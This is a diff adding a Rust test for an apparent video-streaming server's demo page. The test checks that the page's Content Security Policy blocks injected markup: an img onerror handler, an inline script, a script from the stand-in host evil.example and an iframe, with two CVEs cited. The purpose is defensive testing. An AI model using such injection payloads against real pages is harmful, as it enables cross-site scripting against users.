@@ -79,6 +79,36 @@ async fn page_of_the_demo_camera_plays_and_its_picture_is_young() {
     assert!((0.0..5_000.0).contains(&late), "the picture is {late} ms old: {seen:#}");
     assert!(page.strangers.is_empty(), "nothing is loaded from elsewhere: {:?}", page.strangers);
     assert!(page.errors.is_empty(), "{:?}", page.errors);
+    assert!(page.violations.is_empty(), "the page keeps to its own policy: {:?}", page.violations);
+}
+
+#[tokio::test]
+async fn markup_that_is_smuggled_into_a_page_runs_nothing_and_loads_nothing() {
+    let server = Server::start(json!({ "paths": { "demo": { "source": "demo" } } })).await;
+    // CVE-2024-29191, CVE-2024-29892 and their kind. What each of them would do is seen in `ran`.
+    let script = r#"
+        window.ran = [];
+        const app = document.getElementById("app");
+        app.insertAdjacentHTML("beforeend", `<img src="data:," onerror="ran.push('attribute')">`);
+        const inline = document.createElement("script");
+        inline.textContent = "ran.push('inline')";
+        app.append(inline);
+        const foreign = document.createElement("script");
+        foreign.src = "https://evil.example/x.js";
+        app.append(foreign);
+        const frame = document.createElement("iframe");
+        frame.src = "https://evil.example/";
+        app.append(frame);
+        await new Promise((done) => setTimeout(done, 2000));
+        return ran;
+    "#;
+    let page = open(&server.http("/"), script, 60).await;
+    assert_eq!(page.result, json!([]), "{page:?}");
+    for refused in
+        ["script-src-attr inline", "script-src-elem inline", "script-src-elem https://evil.example", "frame-src"]
+    {
+        assert!(page.violations.iter().any(|seen| seen.starts_with(refused)), "{refused}: {:?}", page.violations);
+    }
 }
 
 #[tokio::test]
